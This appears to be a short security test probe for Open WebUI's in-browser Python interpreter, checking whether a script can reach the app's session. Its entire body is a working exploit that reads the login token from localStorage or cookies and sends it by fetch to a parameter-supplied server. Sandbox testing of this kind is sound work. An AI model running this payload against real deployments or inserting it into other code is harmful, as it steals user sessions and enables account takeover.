# Open WebUI: the interpreter runs in the application's own origin, so a script reads the session and uses it.
# holds: neither storage nor cookies nor a request with them
# browser: capability
# wasi: capability
import sys


def render(context):
    for name in ("js", "pyodide", "_pyodide"):
        sys.modules.pop(name, None)
    import js

    token = js.localStorage.getItem("token") or js.document.cookie
    js.fetch(context["params"]["server"] + "/api/users?token=" + str(token))
    return {"text": "breach: " + str(token)}
